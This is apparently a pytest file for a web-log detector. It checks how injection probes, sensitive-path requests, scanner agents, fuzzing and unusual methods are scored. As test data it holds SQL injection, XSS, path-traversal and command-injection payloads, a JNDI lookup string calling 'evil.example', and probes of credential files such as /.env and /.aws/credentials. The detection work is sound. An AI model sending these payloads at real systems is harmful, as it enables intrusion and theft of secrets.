"""Injections, known paths, scanners, odd parameters and methods, and what a fuzzer finds: in whole logs."""

import pytest

from apiwatch.config import Settings
from apiwatch.config.settings import Detectors, Injection, KnownPath
from apiwatch.model import Severity
from tests.engine.lines import alerts_of, events_of, known_route, line, names, replayed

BAD = "203.0.113.9"
SEARCH = known_route("/search?q=shoes")
PAYLOADS = ("1'+or+1=1--", "%3Cscript%3Ealert(1)%3C/script%3E", "../../etc/passwd", "1+union+select+2", "%60id%60")


def searches(texts: tuple[str, ...], client: str = BAD, status: int = 200, start: float = 10.0) -> list[bytes]:
    return [line(start + step, client, f"/search?q={text}", status) for step, text in enumerate(texts)]


def severities(lines: list[bytes], settings: Settings | None = None) -> list[tuple[int, int]]:
    """(line, severity) of each event."""
    return [(event.line, int(event.alert.severity)) for event in events_of(lines, settings)]


def test_one_payload_is_low_and_two_families_are_medium() -> None:
    assert severities([*SEARCH, *searches(PAYLOADS[:2])]) == [(3, 1), (4, 2)]


def test_three_payloads_of_one_family_are_medium() -> None:
    texts = ("1'+or+1=1--", "1'+or+2=2--", "1'+union+select+3")
    assert severities([*SEARCH, *searches(texts)]) == [(3, 1), (5, 2)]


def test_payload_that_makes_a_working_route_fail_is_high_and_an_outage_is_not() -> None:
    assert severities([*SEARCH, *searches(PAYLOADS[:1], status=500)]) == [(3, 3)]
    outage = [line(step / 10, f"192.0.2.{step + 1}", "/search?q=shoes", 500) for step in range(40)]
    assert severities([*SEARCH, *outage, *searches(PAYLOADS[:1], status=500)])[-1] == (43, 1)


def test_payload_in_agent_and_referer_is_seen() -> None:
    (alert,) = alerts_of([*SEARCH, line(1, BAD, "/search?q=a", agent="${jndi:ldap://evil.example/a}")])
    assert (alert.detector, alert.severity) == ("recon.injection-probe", Severity.LOW)
    raw = line(1, BAD, "/search?q=a").replace(b'"-"', b'"${jndi:ldap://evil.example/a}"')
    assert names(alerts_of([*SEARCH, raw])) == ["recon.injection-probe"]


def test_code_that_many_search_for_is_usual_there_and_an_attack_is_still_seen() -> None:
    crowd = [
        raw
        for client in range(8)
        for raw in searches((f"select+{client}'+or+{client}={client}--",), f"192.0.2.{client + 1}")
    ]
    before = [*SEARCH, *crowd]
    assert {alert.client for alert in alerts_of(before)} == {f"192.0.2.{client + 1}" for client in range(5)}
    assert alerts_of([*before, *searches(PAYLOADS[:1])])[-1].client != BAD
    attack = searches(tuple(f"1'+or+{step}={step}--" for step in range(12)))
    (alert,) = [alert for alert in alerts_of([*before, *attack]) if alert.client == BAD]
    assert alert.severity == Severity.MEDIUM
    other = searches(("%3Cscript%3E", "../../etc/passwd"))
    (alert,) = [alert for alert in alerts_of([*before, *other]) if alert.client == BAD]
    assert alert.severity == Severity.MEDIUM


def test_an_attacker_cannot_make_his_payloads_usual() -> None:
    texts = tuple(f"1'+or+{step}={step}--" for step in range(6))
    attackers = [raw for number in range(9) for raw in searches(texts, f"198.51.100.{number + 1}")]
    alerts = alerts_of([*SEARCH, *attackers])
    assert {alert.severity for alert in alerts} == {Severity.MEDIUM}
    assert len({client for alert in alerts for client in alert.clients}) == 9


def test_known_path_is_low_three_are_medium_and_an_answer_is_critical() -> None:
    lines = [line(step, BAD, path, 404) for step, path in enumerate(("/.env", "/.git/config", "/backup.zip"))]
    assert severities([*SEARCH, *lines]) == [(3, 1), (5, 2)]
    assert severities([*SEARCH, *lines, line(9, BAD, "/.aws/credentials", 200)])[-1] == (6, 4)


def test_known_paths_far_apart_stay_low() -> None:
    lines = [line(700 * step, BAD, f"/{step}/.env", 404) for step in range(4)]
    assert {severity for _, severity in severities([*SEARCH, *lines])} == {1}


def test_page_that_answers_everything_is_no_breach() -> None:
    visits = [line(step, "192.0.2.9", f"/{'app' * (step + 1)}/x", size=4_321) for step in range(4)]
    assert alerts_of([*SEARCH, *visits, line(9, BAD, "/.env", 200, size=4_321)]) == []
    (alert,) = alerts_of([*SEARCH, *visits, line(9, BAD, "/.env", 200, size=321)])
    assert alert.severity == Severity.CRITICAL


def test_admin_pages_that_exist_are_for_their_admins() -> None:
    lines = [line(step, BAD, f"/wp-admin/{page}.php") for step, page in enumerate(("edit", "users", "plugins") * 3)]
    assert alerts_of([*SEARCH, line(0, BAD, "/wp-login.php", 302, method="POST"), *lines]) == []


def test_scanner_is_information_and_a_library_is_nothing() -> None:
    (alert,) = alerts_of([line(0, BAD, "/", agent="sqlmap/1.7"), line(1, BAD, "/", agent="sqlmap/1.7")])
    assert (alert.detector, alert.severity, alert.score) == ("recon.scanner-agent", Severity.INFO, 10)
    assert alerts_of([line(0, BAD, "/", agent="python-requests/2.32")]) == []


def test_fuzzer_that_finds_something_is_high_and_a_visitor_is_not() -> None:
    fuzzing = [line(step, BAD, f"/secret-{step}/x.php", 404) for step in range(12)]
    found = events_of([*SEARCH, *fuzzing, line(20, BAD, "/internal/debug")])[-1]
    assert (found.alert.detector, found.alert.severity, found.line) == ("recon.fuzz-hit", Severity.HIGH, 15)
    assert alerts_of([*SEARCH, *fuzzing, line(20, "192.0.2.77", "/internal/debug")])[0].severity == Severity.MEDIUM
    known = known_route("/internal/debug")
    assert alerts_of([*known, *fuzzing, line(20, BAD, "/internal/debug")])[0].severity == Severity.MEDIUM
    assert alerts_of([*SEARCH, *fuzzing, line(20, BAD, "/robots.txt")])[0].severity == Severity.MEDIUM


@pytest.mark.parametrize("query", ["user_id=7&user_id=8", "user_id[]=7", "__proto__[admin]=1", "email=%25"])
def test_tampered_parameter_is_low_and_three_are_medium(query: str) -> None:
    route = known_route("/api/people?page=1")
    lines = [line(step, BAD, f"/api/people?page={step}&{query}") for step in range(3)]
    assert severities([*route, *lines]) == [(3, 1), (5, 2)]


def test_lists_that_a_framework_sends_are_usual_on_its_route() -> None:
    crowd = [line(step, f"192.0.2.{step + 1}", f"/api/people?user_id[]={step}") for step in range(30)]
    assert len(alerts_of([*known_route("/api/people"), *crowd])) == 5


def test_three_refused_methods_are_medium_and_an_answered_one_is_high() -> None:
    route = known_route("/api/items/7", at=0.0)
    refused = [line(100_000 + step, BAD, f"/api/items/{step * 977}", 403, method="DELETE") for step in range(3)]
    assert severities([*route, *refused]) == [(5, 2)]
    assert severities([*route, *refused[:1], line(100_010, BAD, "/api/items/8", method="PUT")])[-1][1] >= 2
    assert severities([*route, line(0, BAD, "/api/items/7", 200, method="TRACE")])[-1][0] == 3


def test_five_lines_that_are_no_http_are_low() -> None:
    refused = [line(step, BAD, "/", 400) for step in range(11)]
    garbage = [raw.replace(b"GET / HTTP/1.1", b"\\x16\\x03\\x01\\x%02x" % step) for step, raw in enumerate(refused)]
    assert severities(garbage[:4]) == []
    (alert,) = alerts_of(garbage)
    assert (alert.detector, alert.severity, alert.client) == ("recon.verb-anomaly", Severity.LOW, BAD)
    assert "11 request lines" in alert.title
    assert "TLS client" in alert.explanation.counter_evidence[0]


def test_methods_of_others_are_no_anomaly() -> None:
    route = [*known_route("/api/items/7"), *known_route("/api/items/7", method="DELETE")]
    lines = [line(step, BAD, f"/api/items/{step * 977}", 403, method="DELETE") for step in range(4)]
    assert "recon.verb-anomaly" not in names(alerts_of([*route, *lines]))
    options = [line(step, BAD, "/api/items/7", 403, method="OPTIONS") for step in range(9)]
    assert alerts_of([*known_route("/api/items/7"), *options]) == []


def test_switched_off_detectors_are_silent_and_thresholds_count() -> None:
    off = Settings(detectors=Detectors(injection=Injection(enabled=False), known_path=KnownPath(enabled=False)))
    lines = [*SEARCH, *searches(PAYLOADS), line(30, BAD, "/.env", 404)]
    assert alerts_of(lines, off) == []
    strict = Settings(detectors=Detectors(injection=Injection(medium_families=5, medium_distinct=50)))
    assert {severity for number, severity in severities([*SEARCH, *searches(PAYLOADS[:2])], strict)} == {1}


def test_memory_of_one_prober_is_bounded() -> None:
    engine, _ = replayed([*SEARCH, *(line(step, BAD, f"/{step}/.env", 404) for step in range(3_000))])
    tracks = engine.principals[BAD].probes
    assert tracks is not None
    assert all(len(track.seen) <= 64 and len(track.samples) <= 5 for track in tracks.values())
